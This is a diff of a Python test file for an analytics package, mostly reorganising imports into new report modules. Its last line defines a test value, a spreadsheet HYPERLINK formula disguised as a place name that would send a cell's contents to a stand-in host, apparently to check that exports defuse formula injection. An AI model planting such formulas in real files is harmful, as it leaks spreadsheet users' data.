@@ -8,7 +8,11 @@ import pytest
 
 from analytics import communes, gaps, recoverable
 from analytics.cli import main
-from analytics.exports import (
+from analytics.plan import plan_to_target
+from analytics.rankings import rankings
+from analytics.reports.contents import plan_steps_frame
+from analytics.reports.table_files import cell_value
+from analytics.reports.workbook import (
     COMMUNE_COLUMNS,
     CRITERIA_COLUMNS,
     FIELD_COLUMNS,
@@ -18,11 +22,7 @@ from analytics.exports import (
     RANKING_COLUMNS,
     analytics_workbook,
 )
-from analytics.plan import plan_to_target
-from analytics.rankings import rankings
-from analytics.report_data import plan_steps_frame
 from analytics.store import connect
-from analytics.tables import cell_value
 
 EVIL_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"Bảo Lạc")'
 
